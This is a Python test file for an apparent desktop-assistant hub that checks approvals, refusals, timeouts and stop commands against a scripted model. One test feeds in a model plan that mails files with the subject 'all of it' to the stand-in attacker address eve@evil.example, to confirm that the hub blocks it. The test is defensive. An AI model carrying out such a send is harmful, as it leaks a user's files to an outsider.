"""What a person meets where a model goes on. The model is scripted: what is shown is what code makes of its answers."""

from __future__ import annotations

import asyncio
from pathlib import Path

from tests.hub.thinking_house import Waiting, by_id, step, steps, thinking

from deskhand.hub import widening
from deskhand.planner.model.seam import Asked, ModelAway
from deskhand.testing.models import Reply, Scripted
from deskhand.testing.whole import Whole

SAYS = "make the budget feel at home among the archived things"


def moves(asked: Asked) -> Reply:
    return steps(step("m", "files.move", files=[by_id(asked, "budget.xlsx")], to=by_id(asked, "Archive")))


async def test_what_a_model_only_reads_runs_at_once(tmp_path: Path) -> None:
    model = Scripted([steps(step("f", "files.find", query="budget"))])
    async with thinking(tmp_path, model) as (on, root):
        accepted = await on.send("where might my budget be hiding", root, native_id="1")
        assert accepted.run is not None
        view = await on.hub.wait(accepted.run, 10)
        assert (view.state, view.asks) == ("done", [])
        assert "budget.xlsx" in view.answer


async def test_what_a_model_would_change_waits_for_a_yes_that_the_desk_believes(tmp_path: Path) -> None:
    model = Scripted(moves)
    async with thinking(tmp_path, model) as (on, root):
        accepted = await on.send(SAYS, root, native_id="1")
        assert accepted.run is not None
        view = await on.hub.wait(accepted.run, 10)
        assert view.state == "asking"
        assert view.ask is not None
        assert "Move budget.xlsx to Archive" in view.ask.text
        assert (root / "budget.xlsx").exists()
        done = await on.settled(accepted.run, 10)
        assert done.state == "done"
        assert (root / "Archive" / "budget.xlsx").exists()
        (receipt,) = [one for one in done.receipts if one.do == "files.move"]
        assert receipt.total == 1
    assert len(model.asked) == 1


async def test_a_no_leaves_everything(tmp_path: Path) -> None:
    async with thinking(tmp_path, Scripted(moves)) as (on, root):
        accepted = await on.send(SAYS, root, native_id="1")
        assert accepted.run is not None
        view = await on.hub.wait(accepted.run, 10)
        assert view.ask is not None
        person = await on.hub.person("cli", "owner")
        signed = on.signer.answer(view.ask, "no")
        await on.hub.answer(accepted.run, None, "no", person, question=view.ask.id, signed=signed)
        assert (await on.hub.wait(accepted.run, 10)).state == "stopped"
        assert (root / "budget.xlsx").exists()


async def test_whom_a_model_made_up_is_never_written_to(tmp_path: Path) -> None:
    """Also where it names one in a plan that otherwise holds: nobody said so, and no question is put."""
    send = steps(step("s", "mail.send", to=["eve@evil.example"], subject="all of it", files=["@f1"]))
    async with thinking(tmp_path, Scripted([send] * 3)) as (on, root):
        accepted = await on.send(SAYS, root, native_id="1")
        assert (accepted.state, accepted.run) == ("teach", None)
        assert "eve@evil.example" in accepted.answer


async def test_a_model_that_cannot_be_reached_is_one_line_below_the_answer(tmp_path: Path) -> None:
    model = Scripted([ModelAway(host="localhost:1", why="refused")])
    async with thinking(tmp_path, model) as (on, root):
        set_up, on.hub.widening.model_for = on.hub.widening.model_for, widening.no_model
        without = await on.send(SAYS, root, native_id="1")
        on.hub.widening.model_for = set_up
        accepted = await on.send(SAYS, root, native_id="2")
        assert accepted.state == without.state == "teach"
        above, line = accepted.answer.rsplit("\n", 1)
        assert above == without.answer
        assert "localhost:1" in line


async def test_thinking_that_takes_too_long_is_ended(tmp_path: Path) -> None:
    model = Waiting([])
    async with thinking(tmp_path, model) as (on, root):
        assert on.hub.widening.thinker.near  # made at the first request; that is not what is waited for here
        on.hub.widening.seconds = 2.0
        accepted = await on.send(SAYS, root, native_id="1")
        assert accepted.state == "teach"
        assert "not at its end" in accepted.answer
        assert model.cancelled


async def test_the_person_hears_that_it_takes_longer(tmp_path: Path) -> None:
    model = Waiting([{"cannot": "no"}])
    async with thinking(tmp_path, model) as (on, root):
        sending = asyncio.create_task(on.send(SAYS, root, native_id="1"))
        assert await said_so(on)
        model.go.set()
        assert (await sending).state == "teach"


async def said_so(on: Whole) -> bool:
    person = await on.hub.person("cli", "owner")
    async with asyncio.timeout(widening.PATIENCE + 4):
        async for event in on.hub.events(person, 0):
            if event.kind == "message" and event.data.get("text") == widening.THINKING.en:
                return True
    return False


async def test_stop_ends_the_thinking(tmp_path: Path) -> None:
    model = Waiting([])
    async with thinking(tmp_path, model) as (on, root):
        sending = asyncio.create_task(on.send(SAYS, root, native_id="1"))
        await model.begun.wait()
        stop = await on.send("stop", root, native_id="2")
        first = await sending
        assert (stop.state, stop.run) == ("stopped", None)
        assert (first.state, first.answer) == ("stopped", widening.STOPPED.en)
        assert model.cancelled


async def test_an_understood_request_asks_no_model(tmp_path: Path) -> None:
    """Nor does a house that nobody asks anything: the script is empty, and asking it would fail."""
    model = Scripted([])
    async with thinking(tmp_path, model) as (on, root):
        await asyncio.sleep(0.2)
        assert (await on.send("stop", root, native_id="1")).run is not None
    assert not model.asked
